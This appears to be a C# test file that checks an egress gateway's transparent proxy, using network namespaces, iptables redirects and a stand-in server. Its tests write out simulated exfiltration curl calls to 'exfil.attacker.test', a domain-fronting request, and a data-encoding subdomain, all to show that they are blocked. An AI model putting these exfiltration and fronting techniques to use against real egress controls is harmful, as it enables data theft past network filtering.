using System.Security.Cryptography.X509Certificates;
using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// The transparent listener for real: an agent network namespace whose TCP traffic iptables REDIRECTs to the gateway,
/// and a stand-in "internet" namespace at 198.18.x.2 serving HTTP and HTTPS. Needs root, ip, iptables and python3
/// (for the server inside the namespace); where any is missing the test says so and returns.
/// </summary>
public sealed class TransparentNamespaceTests(ITestOutputHelper output)
{
    [Fact]
    public async Task Redirected_agent_traffic_is_decided_by_sni_and_host_and_denied_flows_reach_nothing()
    {
        NetworkNamespaces.SkipUnlessRootWith("ip", "iptables", "curl", "python3");
        using var folder = new TempFolder("corral-netns-");
        await using var topology = new NetworkNamespaces();
        var (k, agentNs, _, vethAgentRoot, agentIp, internet, requestLog) = await StageAsync(topology, folder, "mcp.contoso.com", "exfil.attacker.test");

        await using var gw = GatewayHarness.Foundry($"{internet} mcp.contoso.com exfil.attacker.test www.example.test\n", transparent: true, agentSubnet: $"10.213.{k}.0/30");
        var port = gw.Server.TransparentEndPoint!.Port.ToString();
        await topology.AddRuleAsync("nat", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", port);

        string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
        var permitted = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"mcp.contoso.com:443:{internet}", "https://mcp.contoso.com/tools/list"));
        var deniedTls = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "https://exfil.attacker.test/upload"));
        var deniedHttp = await ProcessRunner.RunAsync("ip", Curl("-i", "--resolve", $"www.example.test:80:{internet}", "http://www.example.test/"));
        var fronted = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "-H", "Host: mcp.contoso.com", "https://exfil.attacker.test/"));
        output.WriteLine($"permitted: {permitted}\ndeniedTls: {deniedTls}\ndeniedHttp: {deniedHttp}");

        Assert.Equal(0, permitted.ExitCode);
        Assert.Contains("GET /tools/list", permitted.Stdout);
        Assert.NotEqual(0, deniedTls.ExitCode);
        Assert.Contains("403", deniedHttp.Stdout.Split('\n')[0]);
        Assert.Contains("X-Corral-Rule: default-deny-internet", deniedHttp.Stdout);
        Assert.NotEqual(0, fronted.ExitCode);
        var seen = File.Exists(requestLog) ? File.ReadAllText(requestLog) : "";
        Assert.Contains("/tools/list", seen);
        Assert.DoesNotContain("/upload", seen);
        Assert.DoesNotContain("www.example.test", seen);

        var (decision, close) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "mcp.contoso.com" && r.GetProperty("listener").GetString() == "transparent");
        Assert.Equal("allow-tool-calls", decision.GetProperty("rule").GetString());
        Assert.StartsWith($"{agentIp}:", decision.GetProperty("src").GetString());
        Assert.Equal($"{internet}:443", decision.GetProperty("dst").GetString());
        Assert.True(close.GetProperty("bytes_down").GetInt64() > 0);
        var (denied, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "exfil.attacker.test");
        Assert.Equal("default-deny-internet", denied.GetProperty("rule").GetString());
    }

    [Fact]
    public async Task An_address_only_rule_is_decided_on_the_original_destination_and_a_name_no_rule_could_permit_is_never_looked_up()
    {
        NetworkNamespaces.SkipUnlessRootWith("ip", "iptables", "curl", "python3");
        using var folder = new TempFolder("corral-netns-");
        await using var topology = new NetworkNamespaces();
        var (k, agentNs, _, vethAgentRoot, _, internet, _) = await StageAsync(topology, folder, "partner.example.test");
        var denied = $"198.18.{k}.3";

        // The partner's one address is permitted by address alone; tools.example.test by name; the rest is denied.
        var policy = $$"""
            version: 1
            name: address-only-test
            defaultAction: deny
            smartGroups:
              agents: { cidrs: [10.213.{{k}}.0/30] }
              partner: { cidrs: [{{internet}}/32] }
            webGroups:
              tools: { domains: [tools.example.test] }
            rules:
              - { name: allow-partner, priority: 1, source: [agents], destination: [partner], action: permit, ports: [443] }
              - { name: allow-tools, priority: 2, source: [agents], webGroups: [tools], action: permit, ports: [443] }
              - { name: deny-internet, priority: 3, source: [agents], destination: [public-internet], action: deny }
            """;
        var asked = new List<string>();
        await using var gw = GatewayHarness.Custom(policy, "", transparent: true, wrapResolver: _ => new RecordingResolver(asked, internet));
        await topology.AddRuleAsync("nat", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", gw.Server.TransparentEndPoint!.Port.ToString());

        string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
        // An attacker-chosen name to a denied address: refused, and the name never reaches the resolver.
        var exfil = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"c2vjcmv0.exfil.test:443:{denied}", "https://c2vjcmv0.exfil.test/"));
        // Any name to the partner's address: permitted on the address it was sent to, without a lookup.
        var partner = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"partner.example.test:443:{internet}", "https://partner.example.test/orders"));
        output.WriteLine($"exfil: {exfil}\npartner: {partner}");

        Assert.NotEqual(0, exfil.ExitCode);
        Assert.Equal(0, partner.ExitCode);
        Assert.Contains("GET /orders", partner.Stdout);
        lock (asked) Assert.Empty(asked);
        var (refused, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "c2vjcmv0.exfil.test");
        Assert.Equal("deny-internet", refused.GetProperty("rule").GetString());
        Assert.Equal($"{denied}:443", refused.GetProperty("dst").GetString());
        var (permitted, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "partner.example.test");
        Assert.Equal("allow-partner", permitted.GetProperty("rule").GetString());
        Assert.Equal($"{internet}:443", permitted.GetProperty("dst").GetString());
    }

    /// <summary>The gateway's resolver for the test: records every name asked and answers only tools.example.test
    /// (nothing is ever asked of the machine's own DNS).</summary>
    private sealed class RecordingResolver(List<string> asked, string toolsAddress) : Resolution.IResolver
    {
        public ValueTask<IReadOnlyList<System.Net.IPAddress>> ResolveAsync(string host, CancellationToken ct)
        {
            lock (asked) asked.Add(host);
            return ValueTask.FromResult<IReadOnlyList<System.Net.IPAddress>>(host == "tools.example.test" ? [System.Net.IPAddress.Parse(toolsAddress)] : []);
        }
    }

    /// <summary>
    /// An agent namespace (10.213.k.2, default route to the root side, where the gateway is) and a stand-in internet
    /// namespace at 198.18.k.2 serving HTTPS on 443 and HTTP on 80 for <paramref name="names"/>, logging each request
    /// line to the returned file; ready when this returns.
    /// </summary>
    private static async Task<(int K, string AgentNs, string NetNs, string VethAgentRoot, string AgentIp, string Internet, string RequestLog)> StageAsync(
        NetworkNamespaces topology, TempFolder folder, params string[] names)
    {
        var k = Random.Shared.Next(1, 250);
        var id = $"{Environment.ProcessId % 10000}{k}";
        var agentNs = $"crl-agent-{id}";
        var netNs = $"crl-net-{id}";
        var (vethAgentRoot, vethAgent, vethNetRoot, vethNet) = ($"cra{id}", $"crb{id}", $"crc{id}", $"crd{id}");
        var agentIp = $"10.213.{k}.2";
        var internet = $"198.18.{k}.2";
        await topology.AddAsync(agentNs);
        await topology.AddAsync(netNs);
        await topology.LinkAsync(agentNs, vethAgentRoot, vethAgent, $"10.213.{k}.1/30", $"{agentIp}/30", defaultVia: $"10.213.{k}.1");
        // Its loopback is up: the readiness probe connects from inside.
        await topology.LinkAsync(netNs, vethNetRoot, vethNet, $"198.18.{k}.1/24", $"{internet}/24");
        using var cert = TestCertificates.SelfSigned(names);
        folder.Write("cert.pem", cert.ExportCertificatePem());
        folder.Write("key.pem", cert.GetECDsaPrivateKey()!.ExportPkcs8PrivateKeyPem());
        var requestLog = folder.File("requests.log");
        topology.Start(netNs, "python3", folder.Write("server.py", ServerScript), internet, folder.Path, requestLog);
        await WaitForServerAsync(netNs, internet);
        return (k, agentNs, netNs, vethAgentRoot, agentIp, internet, requestLog);
    }

    private static async Task WaitForServerAsync(string netNs, string address)
    {
        for (var i = 0; i < 100; i++)
        {
            if ((await NetworkNamespaces.ExecAsync(netNs, "python3", "-c", $"import socket; s=socket.create_connection(('{address}', 80), 1); s.close()")).ExitCode == 0) return;
            await Task.Delay(200);
        }
        throw new TimeoutException("the stand-in server in the namespace did not start");
    }

    private const string ServerScript = """
        import http.server, ssl, sys, threading
        address, folder, log = sys.argv[1], sys.argv[2], sys.argv[3]
        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            def do_GET(self):
                with open(log, "a") as f:
                    f.write(self.headers.get("Host", "") + " " + self.path + "\n")
                body = ("hello from the stand-in: GET " + self.path + "\n").encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *args):
                pass
        plain = http.server.ThreadingHTTPServer((address, 80), Handler)
        tls = http.server.ThreadingHTTPServer((address, 443), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder + "/cert.pem", folder + "/key.pem")
        tls.socket = context.wrap_socket(tls.socket, server_side=True)
        threading.Thread(target=plain.serve_forever, daemon=True).start()
        tls.serve_forever()
        """;
}
